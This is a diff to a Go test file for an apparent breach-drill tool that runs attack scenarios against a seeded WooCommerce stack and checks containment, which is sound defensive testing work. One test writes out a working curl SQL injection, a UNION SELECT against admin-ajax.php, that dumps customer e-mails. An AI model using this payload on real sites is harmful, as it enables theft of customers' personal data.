@@ -1,13 +1,10 @@
 package scenarios_test
 
 import (
-	"io"
-	"io/fs"
-
 	"bytes"
 	"context"
-	"fmt"
-	"os"
+	"io"
+	"io/fs"
 	"os/exec"
 	"strings"
 	"testing"
@@ -15,6 +12,7 @@ import (
 
 	"github.com/stretchr/testify/assert"
 	"github.com/stretchr/testify/require"
+	"github.com/stretchr/testify/suite"
 
 	"github.com/breachdrill/breachdrill/containers"
 	"github.com/breachdrill/breachdrill/fakedata"
@@ -22,113 +20,85 @@ import (
 	"github.com/breachdrill/breachdrill/scenarios"
 )
 
-// One seeded stack serves both tests; each gets it at its reset point.
-var shared = stacktest.Shared{Customers: 200, Orders: 400, Seed: 7, RealWooCommerce: true}
-
-func TestMain(m *testing.M) {
-	code := m.Run()
-	if err := shared.Close(); err != nil {
-		fmt.Fprintln(os.Stderr, "remove the shared stack:", err)
-	}
-	os.Exit(code)
+// stackSuite runs its tests on one seeded stack with the real WooCommerce,
+// each test getting it back at its reset point.
+type stackSuite struct {
+	stacktest.Suite
 }
 
-func seededStack(t *testing.T) (*containers.Stack, fakedata.Manifest, *fakedata.Dataset) {
-	t.Helper()
-	s := shared.Get(t)
-	ds, err := fakedata.New(fakedata.Spec{Seed: shared.Seed, Customers: shared.Customers, Orders: shared.Orders})
-	if err != nil {
-		t.Fatal(err)
-	}
-	return s, shared.Manifest(), ds
+func TestAgainstARealStack(t *testing.T) {
+	suite.Run(t, &stackSuite{stacktest.Suite{Shared: stacktest.Shared{Customers: 200, Orders: 400, Seed: 7, RealWooCommerce: true}}})
+}
+
+// dataset is the synthetic shop the suite's stack was seeded with.
+func (s *stackSuite) dataset() *fakedata.Dataset {
+	ds, err := fakedata.New(fakedata.Spec{Seed: s.Shared.Seed, Customers: s.Shared.Customers, Orders: s.Shared.Orders})
+	s.Require().NoError(err, "the seeded dataset")
+	return ds
 }
 
 // Every shipped scenario, for real: the inject's own want_status/want_body
 // assertions prove the attack worked from outside; every containment check
 // fails after the inject and passes after the response; and after revert
 // the stack is back at its reset point.
-func TestEveryScenarioAgainstARealStack(t *testing.T) {
-	stack, manifest, ds := seededStack(t)
+func (s *stackSuite) TestEveryScenario() {
+	stack, manifest, ds := s.Stack, s.Shared.Manifest(), s.dataset()
 	cat, err := scenarios.Builtin()
-	if err != nil {
-		t.Fatal(err)
-	}
+	s.Require().NoError(err)
 	var cards []string
 	for i := 0; len(cards) < 20 && i < 200; i++ {
 		for _, c := range ds.Customer(i).Cards {
 			cards = append(cards, c.Number())
 		}
 	}
-	for _, s := range cat.All() {
-		t.Run(s.ID, func(t *testing.T) {
+	for _, sc := range cat.All() {
+		s.Run(sc.ID, func() {
+			t := s.T()
 			// host.exec steps (sqlmap) are allowed here as --allow-exec allows them.
 			ctx, cancel := context.WithTimeout(scenarios.WithExecAllowed(context.Background()), 5*time.Minute)
 			defer cancel()
-			env := scenarios.NewEnv(stack, s.Artifacts)
+			env := scenarios.NewEnv(stack, sc.Artifacts)
 			env.Cards = func(n int) []string { return cards[:n] }
 			var leaked [][]byte
 			env.Leaked = func(_ string, body []byte) { leaked = append(leaked, body) }
 			defer func() {
-				for _, st := range s.Revert {
-					if err := st.Do.Run(ctx, env); err != nil {
-						t.Errorf("revert %s: %v", st.Action, err)
-					}
+				for _, st := range sc.Revert {
+					assert.NoError(t, st.Do.Run(ctx, env), "revert %s", st.Action)
 				}
-				if _, err := stack.Reset(ctx); err != nil {
-					t.Fatalf("reset: %v", err)
-				}
+				_, err := stack.Reset(ctx)
+				require.NoError(t, err, "reset")
 				diffs, err := stack.VerifyReset(ctx)
-				if err != nil {
-					t.Fatal(err)
-				}
-				if len(diffs) > 0 {
-					t.Errorf("after revert the stack differs from its reset point: %v", diffs)
-				}
+				require.NoError(t, err, "compare with the reset point")
+				assert.Empty(t, diffs, "after revert the stack is at its reset point")
 			}()
 
-			for _, st := range s.WarmUp() {
-				if err := st.Do.Run(ctx, env); err != nil {
-					t.Fatalf("warmup %s (line %d): %v", st.Action, st.Line, err)
-				}
+			for _, st := range sc.WarmUp() {
+				require.NoError(t, st.Do.Run(ctx, env), "warmup %s (line %d)", st.Action, st.Line)
 			}
-			for _, st := range s.Inject {
-				if err := st.Do.Run(ctx, env); err != nil {
-					t.Fatalf("inject %s (line %d): %v", st.Action, st.Line, err)
-				}
+			for _, st := range sc.Inject {
+				require.NoError(t, st.Do.Run(ctx, env), "inject %s (line %d)", st.Action, st.Line)
 			}
-			for _, c := range s.Verify {
+			for _, c := range sc.Verify {
 				res, err := c.Probe.Check(ctx, env)
-				if err != nil {
-					t.Fatalf("check %s: %v", c.Kind, err)
-				}
-				if res.Pass {
-					t.Errorf("check %q passes before the response (%s): it proves nothing", c.Probe.Describe(), res.Detail)
-				}
+				require.NoError(t, err, "check %s", c.Kind)
+				assert.False(t, res.Pass, "check %q fails before the response, or it proves nothing (%s)", c.Probe.Describe(), res.Detail)
 			}
-			for _, st := range s.Respond {
-				if err := st.Do.Run(ctx, env); err != nil {
-					t.Fatalf("respond %s (line %d): %v", st.Action, st.Line, err)
-				}
+			for _, st := range sc.Respond {
+				require.NoError(t, st.Do.Run(ctx, env), "respond %s (line %d)", st.Action, st.Line)
 			}
-			for _, c := range s.Verify {
+			for _, c := range sc.Verify {
 				res, err := c.Probe.Check(ctx, env)
-				if err != nil {
-					t.Fatalf("check %s: %v", c.Kind, err)
-				}
-				if !res.Pass {
-					t.Errorf("check %q fails after the response: %s", c.Probe.Describe(), res.Detail)
-				}
+				require.NoError(t, err, "check %s", c.Kind)
+				assert.True(t, res.Pass, "check %q passes after the response: %s", c.Probe.Describe(), res.Detail)
 			}
 			// What the attacker took carries the seeded customers.
-			if s.PersonalData() && len(leaked) > 0 {
-				sc := fakedata.NewScanner(manifest.Canaries)
+			if sc.PersonalData() && len(leaked) > 0 {
+				scan := fakedata.NewScanner(manifest.Canaries)
 				records := int64(0)
 				for _, b := range leaked {
-					records += sc.ScanBytes(b).Records
+					records += scan.ScanBytes(b).Records
 				}
-				if records == 0 {
-					t.Errorf("the leaked data holds no personal data records")
-				}
+				assert.NotZero(t, records, "the leaked data holds personal data records")
 			}
 		})
 	}
@@ -137,33 +107,29 @@ func TestEveryScenarioAgainstARealStack(t *testing.T) {
 // The SQL injection, replayed by hand with curl against the vulnerable
 // endpoint, returns seeded customers' e-mail addresses: a canary proves
 // which records leaked.
-func TestSQLInjectionReplayedWithCurl(t *testing.T) {
-	if _, err := exec.LookPath("curl"); err != nil {
-		t.Fatal("curl is needed for this test: apt-get install curl")
-	}
-	stack, manifest, _ := seededStack(t)
-	cat, _ := scenarios.Builtin()
-	s, _ := cat.Get("ajax-sqli-exfiltration")
+func (s *stackSuite) TestSQLInjectionReplayedWithCurl() {
+	t := s.T()
+	_, err := exec.LookPath("curl")
+	require.NoError(t, err, "curl is needed for this test: apt-get install curl")
+	stack, manifest := s.Stack, s.Shared.Manifest()
+	cat, err := scenarios.Builtin()
+	require.NoError(t, err)
+	sc, ok := cat.Get("ajax-sqli-exfiltration")
+	require.True(t, ok, "the ajax-sqli-exfiltration scenario ships")
 	ctx := context.Background()
-	env := scenarios.NewEnv(stack, s.Artifacts)
-	for _, st := range s.Inject[:2] { // install and activate the vulnerable plugin
-		if err := st.Do.Run(ctx, env); err != nil {
-			t.Fatal(err)
-		}
+	env := scenarios.NewEnv(stack, sc.Artifacts)
+	for _, st := range sc.Inject[:2] { // install and activate the vulnerable plugin
+		require.NoError(t, st.Do.Run(ctx, env), "inject %s", st.Action)
 	}
 	out, err := exec.Command("curl", "-sS", "--max-time", "30",
 		"--data-urlencode", "action=acme_order_status",
 		"--data-urlencode", "order=0 UNION ALL SELECT c.customer_id, c.email, c.last_name FROM wp_wc_customer_lookup c",
 		stack.URL()+"/wp-admin/admin-ajax.php").CombinedOutput()
-	if err != nil {
-		t.Fatalf("curl: %v\n%s", err, out)
-	}
+	require.NoError(t, err, "curl:\n%s", out)
 	rep := fakedata.NewScanner(manifest.Canaries).ScanBytes(out)
-	if len(rep.Canaries) == 0 {
-		t.Fatalf("no canary in the injection's answer (%d bytes): %.300s", len(out), out)
-	}
-	if !bytes.Contains(out, []byte(manifest.Canaries[0].Email)) && !strings.Contains(string(out), "@example") {
-		t.Fatal("no seeded e-mail address in the answer")
+	require.NotEmpty(t, rep.Canaries, "a canary in the injection's answer (%d bytes): %.300s", len(out), out)
+	if !bytes.Contains(out, []byte(manifest.Canaries[0].Email)) {
+		require.Contains(t, string(out), "@example", "a seeded e-mail address in the answer")
 	}
 	t.Logf("curl replay returned %d bytes with %d canaries (%d data subjects)", len(out), len(rep.Canaries), rep.Subjects)
 }
@@ -171,8 +137,8 @@ func TestSQLInjectionReplayedWithCurl(t *testing.T) {
 // Our own PHP (the stack's must-use plugin and helpers, every scenario
 // artifact) compiles on the stack's PHP without a deprecation, warning or
 // notice, with every error level on.
-func TestOurPHPIsCleanOnTheStacksPHP(t *testing.T) {
-	stack, _, _ := seededStack(t)
+func (s *stackSuite) TestOurPHPIsCleanOnTheStacksPHP() {
+	t, stack := s.T(), s.Stack
 	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
 	defer cancel()
 	lint := func(name string, src io.Reader, path string) {
